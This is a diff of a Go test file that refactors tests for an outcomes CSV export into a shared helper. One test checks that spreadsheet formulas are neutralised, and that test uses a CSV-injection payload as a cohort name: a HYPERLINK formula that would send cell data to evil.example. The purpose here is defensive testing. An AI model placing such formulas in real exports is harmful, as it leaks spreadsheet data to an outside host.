@@ -168,20 +168,26 @@ func TestDashboardByAuthorityListsAllTen(t *testing.T) {
 	}
 }
 
-func TestOutcomesCSVNamesNobody(t *testing.T) {
-	ctx := context.Background()
-	s := storeOnly(t)
-	c := newCohort(t, s, "Cohort 1")
-	people, journeys := threeJourneys(t, c)
-
+// outcomesCSV is the intake's outcomes file, as rows and as written.
+func outcomesCSV(t *testing.T, s *Service, intakeID uuid.UUID) ([][]string, *bytes.Buffer) {
+	t.Helper()
 	var b bytes.Buffer
-	if err := s.WriteOutcomesCSV(ctx, c.intake.ID, &b); err != nil {
+	if err := s.WriteOutcomesCSV(context.Background(), intakeID, &b); err != nil {
 		t.Fatal(err)
 	}
 	rows, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
 	if err != nil {
 		t.Fatalf("not CSV: %v\n%s", err, b.String())
 	}
+	return rows, &b
+}
+
+func TestOutcomesCSVNamesNobody(t *testing.T) {
+	s := storeOnly(t)
+	c := newCohort(t, s, "Cohort 1")
+	people, journeys := threeJourneys(t, c)
+
+	rows, b := outcomesCSV(t, s, c.intake.ID)
 	if len(rows) != 1+len(journeys) || !slices.Equal(rows[0], OutcomesCSVColumns) {
 		t.Fatalf("want a header and %d rows:\n%s", len(journeys), b.String())
 	}
@@ -221,7 +227,6 @@ const formulaStart = "=+-@\t\r"
 // written with a leading apostrophe, which spreadsheets read as "text"
 // and do not show, and every other cell as it was recorded.
 func TestOutcomesCSVNeutralisesFormulas(t *testing.T) {
-	ctx := context.Background()
 	s := storeOnly(t)
 	name := `=HYPERLINK("http://evil.example/?"&A1,"Cohort 1")`
 	c := newCohort(t, s, name)
@@ -236,14 +241,7 @@ func TestOutcomesCSVNeutralisesFormulas(t *testing.T) {
 		c.record(t, j, c.participant(t, fmt.Sprintf("Person%d", i), "Jones", cell[0], cell[1]), "phase.started", "", "in_labs", "")
 		recorded[j.String()] = cell
 	}
-	var b bytes.Buffer
-	if err := s.WriteOutcomesCSV(ctx, c.intake.ID, &b); err != nil {
-		t.Fatal(err)
-	}
-	rows, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
-	if err != nil {
-		t.Fatalf("not CSV: %v\n%s", err, b.String())
-	}
+	rows, b := outcomesCSV(t, s, c.intake.ID)
 	if len(rows) != 1+len(recorded) {
 		t.Fatalf("want a header and %d rows:\n%s", len(recorded), b.String())
 	}
